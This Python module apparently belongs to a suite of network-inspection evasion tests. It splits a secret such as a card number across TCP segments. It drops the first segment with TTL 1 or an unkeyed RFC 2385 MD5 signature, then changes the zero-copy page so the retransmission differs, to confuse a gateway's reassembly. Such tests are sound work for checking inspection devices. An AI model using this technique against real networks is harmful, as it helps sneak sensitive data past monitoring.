"""A segment that is sent again with other bytes, because its pages were changed meanwhile.

The first sending is lost, what follows arrives, then the page gets the first half of the value, and
TCP sends it again. `beyond`: bytes behind the second half, so that the gateway may have forgotten
what it could compare with. `way`: `zerocopy` or `sendfile`. `loss`: `ttl` it dies on the way,
`md5` it bears a signature (RFC 2385) that the receiver has no key for and will not take; any
process may ask for either.
"""

from __future__ import annotations

import mmap
import os
import socket
import struct
import time

from attacks.connection import drained, give_up
from attacks.page_race import WAYS
from attacks.target import Target

PAGE = mmap.PAGESIZE
TCP_MD5SIG = 14
SOONER = 0.05  # seconds until a second segment: before the first is sent again


def main(target: Target) -> None:
    """Twice, since a retransmission may come in between."""
    for _ in range(2):
        once(target)


def once(target: Target) -> None:
    """One connection."""
    cut = len(target.secret) // 2
    first, second = target.secret[:cut], target.secret[cut:]
    lead = b"order 17, card "
    filler = b" and so on," * (int(target.args.get("beyond", 0)) // 11 + 1)
    file = os.memfd_create("page")
    os.ftruncate(file, PAGE)
    page = mmap.mmap(file, PAGE)
    size = len(lead) + len(first)
    page[:size] = lead + b"x" * len(first)
    made = target.tcp()
    try:
        made.sendall(b"hello, this is the beginning\n")
        drained(made)
        lose(made, target, on=True)
        WAYS[target.args.get("way", "zerocopy")](made, file, page, size)
        page[len(lead) : size] = first
        lose(made, target, on=False)
        time.sleep(0.002)
        made.sendall(second + b", thanks\n" + filler)
        drained(made, 2.5)
    finally:
        give_up(made)


def lose(made: socket.socket, target: Target, *, on: bool) -> None:
    """What is sent from now on does not arrive, or does again."""
    if target.args.get("loss") == "md5":
        peer = struct.pack("=HH4s120x", socket.AF_INET, 0, socket.inet_aton(target.address))
        key = b"secret" if on else b""
        signature = struct.pack("=BBHI80s", 0, 0, len(key), 0, key)
        made.setsockopt(socket.IPPROTO_TCP, TCP_MD5SIG, peer + signature)
    elif target.af == socket.AF_INET:
        made.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 1 if on else 64)
    else:
        made.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 1 if on else 64)
